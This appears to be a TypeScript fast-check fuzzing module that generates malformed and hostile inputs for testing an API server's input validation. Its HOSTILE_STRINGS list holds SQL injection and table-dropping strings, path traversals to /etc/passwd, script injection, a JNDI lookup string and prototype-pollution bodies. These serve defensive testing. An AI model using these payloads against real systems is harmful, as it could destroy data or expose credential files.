import fc from 'fast-check';

const ONE_MB = 'A'.repeat(1024 * 1024);

function nested(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? { a: value } : [value];
  return value;
}
const DEEP = nested(2_000);

/** Strings that have broken servers: injections, traversals, control and odd unicode, NUL. */
export const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE members; --",
  '1 UNION SELECT password_hash FROM accounts',
  '\\x00',
  'a\u0000b',
  '%00',
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '..\\..\\..\\windows\\win.ini',
  '/dev/zero',
  '\u202Eevil',
  '\uD800',
  '\uFEFF',
  'Z̸̢̛͓a̶͔͌l̴̝̅g̵̙̈́o̵̟͐',
  '😀👨‍👩‍👧‍👦',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '-1',
  '1e400',
  'NaN',
  'Infinity',
  '2026-02-30',
  '0000-00-00',
  '9999-99-99',
  '',
  ' ',
  '\n\r\t',
];

/** Numbers at and past every edge a field might have. */
export const HOSTILE_NUMBERS = [
  -1,
  -0,
  0.5,
  -2_147_483_649,
  2_147_483_648,
  2 ** 53 + 2,
  Number.MAX_VALUE,
  -Number.MAX_VALUE,
  1e-320,
];

/** A value of the wrong kind: malformed for any field. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 6 },
  { arbitrary: fc.constantFrom(...HOSTILE_NUMBERS), weight: 3 },
  { arbitrary: fc.constantFrom<unknown>(true, false, null, [], {}, [[]], { a: {} }, [null]), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 60 }), weight: 2 },
  { arbitrary: fc.integer({ min: Number.MIN_SAFE_INTEGER, max: Number.MAX_SAFE_INTEGER }), weight: 1 },
  { arbitrary: fc.constant(ONE_MB), weight: 1 },
  { arbitrary: fc.constant(ONE_MB.slice(0, 200_000)), weight: 1 },
  { arbitrary: fc.constant(DEEP), weight: 1 },
  { arbitrary: fc.constant(Array.from({ length: 5_000 }, () => 'a')), weight: 1 },
);

/** A whole body that is not what any route takes. */
export const hostileBody: fc.Arbitrary<unknown> = fc.oneof(
  hostileValue,
  fc.constant(DEEP),
  fc.jsonValue({ maxDepth: 3 }),
  fc.constant({ __proto__: { admin: true } }),
  fc.constant(
    JSON.parse(
      '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
    ) as unknown,
  ),
);

/** A text of a parameter (path or query) that no parameter accepts. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 6 },
  { arbitrary: fc.constantFrom(...HOSTILE_NUMBERS.map(String)), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 60 }), weight: 2 },
  { arbitrary: fc.constant(ONE_MB.slice(0, 100_000)), weight: 1 },
);

type Path = (string | number)[];

/** Every place in a JSON value where a value can be swapped or a key added (the root included). */
export function placesIn(value: unknown, path: Path = [], out: Path[] = [], depth = 0): Path[] {
  out.push(path);
  if (depth > 8 || value === null || typeof value !== 'object') return out;
  if (Array.isArray(value)) value.forEach((item, index) => placesIn(item, [...path, index], out, depth + 1));
  else for (const [key, item] of Object.entries(value)) placesIn(item, [...path, key], out, depth + 1);
  return out;
}

const clone = (value: unknown): unknown => (value === undefined ? undefined : structuredClone(value));

export type Mutation = { kind: 'replace' | 'delete' | 'add-key'; pick: number; value: unknown };

/** The value with one place changed: replaced by a hostile value, deleted, or given an unknown key. */
export function mutate(value: unknown, mutation: Mutation): unknown {
  const places = placesIn(value);
  const path = places[mutation.pick % places.length] ?? [];
  if (path.length === 0) return mutation.kind === 'replace' ? mutation.value : value;
  const copy = clone(value) as Record<string | number, unknown>;
  let parent: Record<string | number, unknown> = copy;
  for (const step of path.slice(0, -1)) parent = parent[step] as Record<string | number, unknown>;
  const last = path[path.length - 1] as string | number;
  if (mutation.kind === 'replace') parent[last] = mutation.value;
  else if (mutation.kind === 'delete') {
    if (Array.isArray(parent)) parent.splice(Number(last), 1);
    else Reflect.deleteProperty(parent, last);
  } else if (typeof parent[last] === 'object' && parent[last] !== null && !Array.isArray(parent[last])) {
    (parent[last] as Record<string, unknown>)['unexpected\u00e9Key'] = mutation.value;
  } else parent[last] = mutation.value;
  return copy;
}

export const mutationArb: fc.Arbitrary<Mutation> = fc.record({
  kind: fc.constantFrom<Mutation['kind']>('replace', 'replace', 'replace', 'delete', 'add-key'),
  pick: fc.nat(),
  value: hostileValue,
});
